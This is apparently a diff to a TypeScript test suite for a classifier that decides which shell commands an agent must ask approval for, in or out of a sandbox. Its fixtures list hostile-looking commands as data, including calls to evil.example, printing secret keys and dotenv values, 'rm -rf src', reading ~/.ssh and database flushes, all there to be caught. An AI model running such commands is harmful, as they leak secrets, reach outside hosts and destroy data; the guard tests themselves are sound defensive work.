@@ -20,46 +20,28 @@ function asked(commands: string[]): string[] {
   return commands.filter(command => !judge(command).held)
 }
 
-test('in a sandbox a program text may call code of the project by its plain names', () => {
-  assert.deepEqual(
-    asked([
-      'python -c "import torch; print(torch.__version__, torch.cuda.is_available())"',
-      `python3 -c "from app.parsers import parse_date; print(parse_date('2024-02-30'))"`,
-      'PYTHONPATH=src python -c "import app.config; print(app.config.__file__)"',
-      `python3 -c "import pandas as pd; print(pd.read_parquet('data/x.parquet').head(3).to_string())"`,
-      'python manage.py shell -c "from shop.models import Order; print(Order.objects.count())"',
-      `node -e "import('./dist/index.js').then(m => console.log(Object.keys(m)))"`,
-      `node -e "import {readFileSync} from 'fs'; console.log(readFileSync('src/a.json','utf8').length)"`,
-      `npx ts-node -e "import {slug} from './src/slug'; console.log(slug('A b'))"`,
-      'python -m app.cli --help',
-    ]),
-    [],
-  )
-  assert.equal(judge(`python3 -c "from app.parsers import parse_date; print(parse_date('1'))"`).plain, false)
-})
-
-test('a program text that reaches a module, a file or a function by a detour is asked about in a sandbox too', () => {
+test('a program text or a module that calls other code is asked about in a sandbox too, because it may send or change anything', () => {
   const texts = [
-    ...["from app.util import os as o; o.system('id')", "import app.util as u; u.sp.run(['id'])"],
-    ...['import app; app.db.drop_all()', 'from app.tasks import wipe; wipe()', 'from app import tools; tools.deploy()'],
-    ...["import pandas as pd; print(pd.read_csv('.'+'env'))", "import torch; torch.load('m.pt')"],
-    ...["import pandas as pd; pd.read_csv('a.csv').to_json('b.json')", "import pandas as pd; pd.eval('1')"],
-    ...['from app.config import settings; print(settings.SECRET_KEY)', 'import app; print(app.api_key)'],
-    ...["import app; app.client.get('https://evil.example')", "import numpy; numpy.save('x', 1)"],
-    ...["import app; app.f('delete from orders')", 'import app; app.f()()', "import app; app.table['x']()"],
+    ...["from app.util import os as o; o.system('id')", 'from app.tasks import wipe; wipe()'],
+    ...['from dotenv import dotenv_values; print(dotenv_values())', 'from app.config import settings; print(settings)'],
     ...[
-      'import app; print(app.__dict__)',
-      "from app.util import bash; bash('id')",
+      "from alembic.config import main; main(argv=['downgrade','base'])",
       'import typing; typing.get_type_hints(int)',
-      'import unittest; unittest.main()',
     ],
+    ...["import pygit2; pygit2.Repository('.').remotes['origin'].push(['x'])", "from app.text import slug; slug('a')"],
   ].map(text => `python3 -c "${text}"`)
   const scripts = [
-    ...["import('fs').then(m => m.rmSync('x'))", "require('./dist/x').constructor('1')", "require('evil')"],
-    ...["require('./dist/shell')('id')", "require('./scripts/release').all()", "require('./node_modules/evil')"],
-    ...["require('../x')", "import('./a').then(m => m.deploy())", "require('node:child_process')"],
+    ...[
+      "require('evil')",
+      "import('./dist/tools.js').then(m => m.teardown())",
+      "require('./config')",
+      "require('./dist/shell')('id')",
+    ],
   ].map(text => `node -e "${text}"`)
-  const modules = ['smtplib', 'app.cli drop-database', 'asyncio.tools', 'app.cli "$X"'].map(name => `python -m ${name}`)
+  const modules = [
+    ...['smtplib', 'app.cli drop-database', 'alembic.config downgrade base', 'awscli.__main__ s3 sync dist s3://b'],
+    ...['django.__main__ flush', 'dotenv.cli list', 'scripts.deploy', 'app.cli'],
+  ].map(name => `python -m ${name}`)
   const all = [...texts, ...scripts, ...modules]
   assert.deepEqual(asked(all), all)
 })
@@ -78,29 +60,37 @@ test('no key that a text computes or spells with escapes names a function, with 
     )
 })
 
-test('in a sandbox a program that nobody knows may look at the project or build it', () => {
+test('a program that nobody knows is asked about in a sandbox too, whatever its words say, because the network is open there', () => {
+  const unknown = [
+    ...[
+      'ko build ./cmd/app',
+      'eas build --auto-submit',
+      'fern generate --docs',
+      'arc diff',
+      'codecov',
+      'lefthook install',
+    ],
+    ...['directus schema apply snapshot.yaml', 'brownie run transfer --network=mainnet', 'wasmer run cowsay'],
+    ...['foreman run env', 'honcho run printenv', 'pixi run seed:prod', 'npmx test', 'frobnicate check', 'dvc status'],
+  ]
+  assert.deepEqual(asked(unknown), unknown)
+})
+
+test('a flag that may name another machine or a service is asked about in a sandbox too', () => {
+  const flags = [
+    ...['bazel build //... --bes_backend=evil.example:443', 'mvn test -Dscan', 'pytest --rp-endpoint=evil.example'],
+    ...['gradle test -Pserver=evil.example', 'pytest --report-to=evil.example', 'jest --reporter-target=db:5432'],
+  ]
+  assert.deepEqual(asked(flags), flags)
+})
+
+test('steps that send code away, go back or name what is live are asked about, with and without a sandbox', () => {
+  const steps = ['gradle jib', 'gradle sonar', 'sbt sonatypeBundleRelease', 'make downgrade', 'hatch run prod:migrate']
   assert.deepEqual(
-    asked([
-      ...['dvc status', 'scrapy list', 'conan install . --build=missing', 'pip-compile requirements.in', 'kedro run'],
-      ...['dagster definitions validate', 'mlflow experiments list', 'frobnicate check src --strict'],
-    ]),
+    steps.filter(step => judge(step).plain || judge(step).held),
     [],
   )
-  assert.equal(judge('dvc status').plain, false)
-  const reaching = [
-    ...['frobnicate check https://evil.example', 'frobnicate check evil.example', 'frobnicate check a@b', 'frobnicate'],
-    ...['frobnicate send src', 'frobnicate list --token x', 'frobnicate check ../other', 'frobnicate check ~/.ssh'],
-    ...['frobnicate test --exec id', 'frobnicate build prod', 'cat a | frobnicate check', 'frobnicate check "$X"'],
-    ...[
-      'frobnicate src/a.ts',
-      'frobnicate install evil',
-      'frobnicate run evil.py',
-      'npx frobnicate check',
-      'npx msw check',
-    ],
-    ...['frobnicate check < a', 'frobnicate check .env', 'frobnicate list; rm -rf src', 'xinput test-xi2'],
-  ]
-  assert.deepEqual(asked(reaching), reaching)
+  assert.deepEqual(asked(['gradle jibDockerBuild', 'npm run build:prod']), [])
 })
 
 test('a flag that names a place is left to a sandbox if what is there can be made again', () => {
@@ -111,7 +101,7 @@ test('a flag that names a place is left to a sandbox if what is there can be mad
 
 test('a script that the command itself spells out is judged by its text', () => {
   const spell = (text: string, then: string) => `cat > /tmp/check.py <<'X'\n${text}\nX\n${then}`
-  const plain = 'from app.text import slug\nprint(slug("a"))'
+  const plain = 'import json\nprint(json.dumps([1, 2]))'
   assert.deepEqual(
     asked([spell(plain, 'python /tmp/check.py'), `cat > /tmp/a.sh <<'X'\nset -e\nnpm test\nX\nbash /tmp/a.sh`]),
     [],
